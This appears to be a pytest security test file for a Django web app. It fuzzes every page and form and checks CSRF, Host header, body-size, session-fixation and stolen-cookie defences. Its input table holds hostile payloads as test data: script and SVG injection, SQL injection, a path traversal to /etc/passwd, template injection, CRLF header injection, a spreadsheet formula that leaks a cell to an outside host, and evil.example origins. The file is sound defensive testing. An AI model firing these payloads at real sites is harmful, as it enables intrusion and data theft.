"""Every address and every form of the table of doors, filled with nonsense: an answer below 500, nothing run, nothing read.

The list of hostile inputs and where each is tried stands in SECURITY.md; here stands what is true of every page alike.
"""

import re
from functools import partial

import pytest
from django.middleware.csrf import get_token
from django.test import Client, RequestFactory
from django.urls import reverse

from gugus_tugas.tests.matriks import opened_by_object
from gugus_tugas.tests.savepoint import undone

pytestmark = pytest.mark.sekali

LIVE = "<script>alert(7)</script>"
NONSENSE = {
    "nul": "\x00a",
    "huge number": "9" * 40,
    "negative": "-1",
    "not a number": "NaN",
    "wide digits": "１２",
    "long": "a" * 20_000,
    "list": ["a", "b"],
    "disguised": "\u202efdp.exe\u200b",
    "first day": "1/1/0001",
    "last day": "31/12/9999",
    "no day": "30/02/2025",
    "american": "12/31/2025",
    "formula": '=HYPERLINK("http://x/?"&A1,"klik")',
    "path": "../../etc/passwd",
    "template": "{{7777*7777}}{% debug %}",
    "script": LIVE,
    "attribute": '"><svg onload=alert(7)>',
    "sql": "' OR 1=1;--",
    "lines": "a\r\nSet-Cookie: x=y\n2026-01-01 kepala masuk",
}
ASKED = ("nul", "huge number", "negative", "long", "list", "script", "sql", "lines")  # of an address; a form gets all
NAMES = ("hal", "q", "tahun", "status", "urut", "keadaan", "pada", "next", "edisi", "pk", "pengguna")


def fields_of(html: str) -> set[str]:
    return set(re.findall(r'\bname="([^"]+)"', html)) - {"csrfmiddlewaretoken", "viewport", "color-scheme"}


def assert_tame(answer, name: str) -> None:
    assert answer.status_code < 500, name
    assert "Set-Cookie: x" not in str(answer.headers), name
    if answer.headers["Content-Type"].startswith("text/html"):
        html = answer.content.decode()
        assert LIVE not in html, name
        assert "<svg onload" not in html, name
        assert "60481729" not in html, name  # 7777 * 7777


@pytest.mark.usefixtures("_no_rendering")
@pytest.mark.parametrize(("obj", "doors"), opened_by_object("GET", "200"))
def test_pages_asked_with_nonsense_answer(obj, doors, cast, objects, client_of):
    row, browsers = objects(obj), {role: client_of(cast[role]) for _, role in doors}

    def ask_everything(browser, url):
        address = reverse(url, kwargs=row)
        page = browser.get(address)
        is_page = page.headers["Content-Type"].startswith("text/html")
        names = {*NAMES, *(fields_of(page.content.decode()) if is_page else ())}
        for word in ASKED:
            assert_tame(browser.get(address, dict.fromkeys(names, NONSENSE[word])), f"{url}: {word}")

    for url, role in doors:
        undone(partial(ask_everything, browsers[role], url))


@pytest.mark.usefixtures("_no_rendering")
@pytest.mark.parametrize(("obj", "doors"), opened_by_object("POST", "200", "302", "422"))
def test_forms_filled_with_nonsense_answer(obj, doors, cast, objects, client_of):
    form, row = "application/x-www-form-urlencoded", objects(obj)
    browsers = {role: client_of(cast[role]) for _, role in doors}

    def send(url, role, *body, **kind):  # by a browser that knows nothing but the session: one of the forms ends it
        browser = Client()
        browser.cookies["sesi"] = browsers[role].cookies["sesi"].value
        return browser.post(reverse(url, kwargs=row), *body, **kind)

    for url, role in doors:
        page = browsers[role].get(reverse(url, kwargs=row))
        names = fields_of(page.content.decode()) if page.status_code == 200 else set()
        for word, value in NONSENSE.items():  # what the last one did must not refuse the next
            assert_tame(undone(partial(send, url, role, dict.fromkeys({*names, "pk"}, value))), f"{url}: {word}")
        for word, body, kind in (
            ("lone surrogate", "&".join(f"{name}=%ED%A0%80" for name in names), form),
            ("bytes", b"\xff\xfe=\x00&&&==", form),
            ("json", b"{}", "application/json"),
            ("cut multipart", b"--x", "multipart/form-data; boundary=x"),
        ):
            assert_tame(undone(partial(send, url, role, body, content_type=kind)), f"{url}: {word}")


@pytest.mark.parametrize(("obj", "doors"), opened_by_object("POST", "200", "302", "422"))
def test_no_form_is_taken_without_the_token_of_this_browser(obj, doors, cast, objects):
    """Row 22: no token, another person's token, a foreign origin; every address, as a person who may send its form."""
    row, stolen, browsers = objects(obj), get_token(RequestFactory().get("/masuk/")), {}
    for url, role in doors:
        if role not in browsers:
            browsers[role] = Client(enforce_csrf_checks=True)
            browsers[role].force_login(cast[role])
        for data, headers in (
            ({}, {}),
            ({"csrfmiddlewaretoken": stolen}, {}),
            ({"csrfmiddlewaretoken": stolen}, {"Origin": "https://evil.example", "Cookie": ""}),
        ):
            answer = browsers[role].post(reverse(url, kwargs=row), data, headers=headers)
            assert answer.status_code == 403, (url, data, headers)


@pytest.mark.parametrize(
    "host", ["evil.example", "testserver@evil.example", "testserver.evil.example", "127.0.0.1:80/x", ""]
)
def test_foreign_host_is_refused(host, db):
    """Row 24; two Host lines never come so far, the server refuses them."""
    assert Client().get("/masuk/", headers={"Host": host}).status_code == 400


def test_forwarded_host_is_not_believed(db):
    answer = Client().get("/masuk/", headers={"X-Forwarded-Host": "evil.example", "X-Forwarded-Server": "evil.example"})
    assert "evil" not in answer.content.decode() + str(answer.headers)


def test_body_that_is_too_large_is_refused(client_of, kepala, settings):
    """Row 9: more than the limit of a form; files have their own (test_files.py)."""
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 1000
    answer = client_of(kepala).post("/anggota/sk/catat/", {"tentang": "a" * 2000})
    assert answer.status_code == 400
    assert "tidak dapat dibaca" in answer.content.decode()


def test_ten_thousand_fields_are_refused(client_of, kepala):
    body = "&".join(f"f{n}=1" for n in range(10_000))
    form = "application/x-www-form-urlencoded"
    assert client_of(kepala).post("/anggota/sk/catat/", body, content_type=form).status_code == 400


@pytest.mark.parametrize("key", ["sesi-pilihan-penyerang-0123456789", "", "\x00", "a" * 5000, "../../etc/passwd"])
def test_session_chosen_by_a_stranger_is_not_taken_over(key, db, sekretariat):
    """Row 25."""
    sekretariat.set_password("sandi-uji-yang-panjang")
    sekretariat.save()
    browser = Client()
    browser.cookies["sesi"] = key
    browser.post("/masuk/", {"username": "sekretariat", "password": "sandi-uji-yang-panjang"})
    assert browser.cookies["sesi"].value != key
    stranger = Client()
    stranger.cookies["sesi"] = key
    assert stranger.get("/kasus/").status_code == 302


def test_edited_or_stolen_cookie_after_logout_opens_nothing(client_of, sekretariat):
    browser = client_of(sekretariat)
    key = browser.cookies["sesi"].value
    for cookie in (key[:-1], key.upper(), f"{key}x"):
        thief = Client()
        thief.cookies["sesi"] = cookie
        assert thief.get("/kasus/").status_code == 302
    browser.post("/keluar/")
    thief.cookies["sesi"] = key
    assert thief.get("/kasus/").status_code == 302
